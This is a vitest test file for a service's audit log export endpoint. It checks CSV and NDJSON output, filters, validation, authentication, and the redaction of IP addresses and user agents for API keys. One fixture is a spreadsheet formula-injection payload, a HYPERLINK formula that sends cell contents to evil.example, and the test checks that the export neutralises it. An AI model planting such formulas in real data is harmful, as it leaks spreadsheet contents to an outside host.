import { setTimeout as sleep } from 'node:timers/promises'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { AuditActor } from '../../src/domain/audit/audit-event.js'
import { createAuditLogRepository } from '../../src/storage/sql/audit-log-repository.js'
import { parseCsv } from '../helpers/csv.js'
import { asBrowser, asScript, createTestAccount, createTestSite, type CreatedSite, type TestAccount } from '../helpers/dashboard-client.js'
import { createReadOnlyKey, expectValidationError, listAllPages, ndjsonLines, withDaysAround, type AuditEvent } from '../helpers/log-export.js'
import { buildTestApp, deployments, type TestApp } from '../helpers/test-app.js'

const COLUMNS = ['id', 'createdAt', 'action', 'actorType', 'actorId', 'actorName', 'actorKeyPrefix', 'clientIp', 'userAgent', 'siteId', 'siteName', 'details', 'actorAccountId', 'actorEmail']
const HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
/** More events than one batch of the export (500) holds, twice over. */
const RECORDED = 1_200

/** An event as its CSV row should read (no cell of these begins with a formula character but the one checked apart). */
const rowOf = (event: AuditEvent) =>
  [
    event.id,
    event.createdAt,
    event.action,
    event.actor.type,
    event.actor.id,
    event.actor.name,
    event.actor.keyPrefix,
    event.actor.clientIp,
    event.actor.userAgent,
    event.site?.id ?? null,
    event.site?.name ?? null,
    JSON.stringify(event.details),
    event.actor.accountId,
    event.actor.email,
  ].map((cell) => (cell === null ? '' : cell))

describe.each(deployments)('exports of the audit log on $name', ({ available, options }) => {
  let service: TestApp
  let account: TestAccount
  let site: CreatedSite
  /** The times between the three groups of recorded events. */
  const boundaries: Date[] = []

  beforeAll(async () => {
    if (!available) return
    service = await buildTestApp(options)
    account = await createTestAccount(service.app)
    site = await createTestSite(service.app, account, { name: '+Shop, "EU"' })
    const auditLog = createAuditLogRepository(service.app.database)
    const actor: AuditActor = { type: 'session', id: null, name: account.email, keyPrefix: null, clientIp: '192.0.2.7', userAgent: HYPERLINK }
    for (const group of [0, 1, 2]) {
      await sleep(5)
      boundaries.push(new Date())
      await sleep(5)
      for (let index = 0; index < RECORDED / 3; index++) {
        await auditLog.record({ accountId: account.id, action: index % 2 === 0 ? 'site.updated' : 'session.ended', actor, site, details: { group, index } })
      }
    }
  }, 120_000)
  afterAll(async () => {
    if (available) await service.close()
  })

  const exportOf = (query: string, headers: Record<string, string> = asBrowser(account)) =>
    service.app.inject({ method: 'GET', url: `/api/v1/audit-log/export${query}`, headers })

  /** Every event the listing answers for the query (starting with &). */
  const listAll = (query: string, headers: Record<string, string> = asBrowser(account)) => listAllPages<AuditEvent>(service.app, `/api/v1/audit-log?${query}`, headers)
  const linesOf = (body: string) => ndjsonLines<AuditEvent>(body)

  it.skipIf(!available)('answers a CSV file of every event, newest first, each once, as the listing has them', async () => {
    const { result: response, days } = await withDaysAround(() => exportOf(''))
    expect(response.statusCode, response.body).toBe(200)
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8')
    expect(days.map((day) => `attachment; filename="tollgate-audit-log-${day}.csv"`)).toContain(response.headers['content-disposition'])
    const [header, ...records] = parseCsv(response.body)
    expect(header).toEqual(COLUMNS)
    const listed = await listAll('')
    expect(listed.length).toBeGreaterThan(RECORDED)
    const userAgent = COLUMNS.indexOf('userAgent')
    const siteName = COLUMNS.indexOf('siteName')
    // The cells of what a visitor or the owner typed are checked apart, below.
    const comparable = (row: string[]) => row.filter((_, column) => column !== userAgent && column !== siteName)
    expect(records.map(comparable)).toEqual(listed.map(rowOf).map(comparable))
  })

  it.skipIf(!available)("neutralises a user agent and a site's name that a spreadsheet would run as formulas", async () => {
    const [, first] = parseCsv((await exportOf('?action=site.updated')).body)
    expect(first?.[COLUMNS.indexOf('userAgent')]).toBe(`'${HYPERLINK}`)
    expect(first?.[COLUMNS.indexOf('siteName')]).toBe(`'+Shop, "EU"`)
    expect(first?.[COLUMNS.indexOf('clientIp')]).toBe('192.0.2.7')
  })

  it.skipIf(!available)("answers NDJSON lines equal to the listing's items, without addresses and browsers for an API key", async () => {
    const bySession = await exportOf('?format=ndjson')
    expect(bySession.statusCode).toBe(200)
    expect(bySession.headers['content-type']).toBe('application/x-ndjson')
    expect(bySession.headers['content-disposition']).toMatch(/^attachment; filename="tollgate-audit-log-\d{4}-\d{2}-\d{2}\.ndjson"$/)
    expect(linesOf(bySession.body)).toEqual(await listAll(''))
    const byKey = linesOf((await exportOf('?format=ndjson', asScript(account))).body)
    expect(byKey).toEqual(await listAll('', asScript(account)))
    expect(byKey.every((event) => event.actor.clientIp === null && event.actor.userAgent === null)).toBe(true)
  })

  it.skipIf(!available)('keeps the filters of the listing (siteId, action) and the range from <= createdAt < to', async () => {
    const [, middleStart, lastStart] = boundaries
    const range = `from=${middleStart?.toISOString()}&to=${lastStart?.toISOString()}`
    const middle = linesOf((await exportOf(`?format=ndjson&${range}`)).body)
    expect(middle).toHaveLength(RECORDED / 3)
    expect(middle.every((event) => event.details.group === 1)).toBe(true)
    const filtered = linesOf((await exportOf(`?format=ndjson&${range}&siteId=${site.id.toUpperCase()}&action=session.ended`)).body)
    expect(filtered).toEqual(middle.filter((event) => event.action === 'session.ended'))
    expect(filtered).toHaveLength(RECORDED / 6)
  })

  it.skipIf(!available).each([
    ['?from=2026-02-02T00:00:00Z&to=2026-02-01T00:00:00Z', 'querystring.from'],
    ['?to=soon', 'querystring.to'],
    ['?from=2026-02-01T00:00:00.000001Z', 'querystring.from'],
    ['?format=xml', 'querystring.format'],
    ['?siteId=not-a-site', 'querystring.siteId'],
    ['?action=site.painted', 'querystring.action'],
    // The dashboard page's parameter, not the API's (siteId): not ignored, which would export the whole log.
    ['?site=00000000-0000-4000-8000-000000000000', 'querystring.site'],
  ])('answers 400 validation_error for %s', async (query, field) => {
    expectValidationError(await exportOf(query), field)
  })

  it.skipIf(!available)("answers 401 without credentials, and only the account's own events to another account", async () => {
    const unauthenticated = await exportOf('', {})
    expect(unauthenticated.statusCode).toBe(401)
    expect(unauthenticated.json().error.code).toBe('unauthorized')
    const stranger = await createTestAccount(service.app)
    const theirs = linesOf((await exportOf('?format=ndjson', asScript(stranger))).body)
    expect(theirs.map((event) => event.action)).toEqual(['api_key.created', 'account.logged_in', 'account.created'])
  })

  it.skipIf(!available)('leaves the addresses and browsers out of the CSV for an API key, as the listing does', async () => {
    const response = await exportOf('?action=site.updated', asScript(account))
    expect(response.statusCode, response.body).toBe(200)
    const [header, ...records] = parseCsv(response.body)
    expect(header).toEqual(COLUMNS)
    expect(records.length).toBeGreaterThan(0)
    for (const column of ['clientIp', 'userAgent']) expect(new Set(records.map((record) => record[COLUMNS.indexOf(column)]))).toEqual(new Set(['']))
    // The same rows by a session have them.
    const [, bySession] = parseCsv((await exportOf('?action=site.updated')).body)
    expect(bySession?.[COLUMNS.indexOf('clientIp')]).toBe('192.0.2.7')
  })

  it.skipIf(!available)('lets a read-only API key export', async () => {
    const response = await exportOf('?action=api_key.created', { authorization: `Bearer ${await createReadOnlyKey(service.app, account)}` })
    expect(response.statusCode, response.body).toBe(200)
    expect(parseCsv(response.body).map((record) => record[COLUMNS.indexOf('action')])).toEqual(['action', 'api_key.created', 'api_key.created'])
  })
})
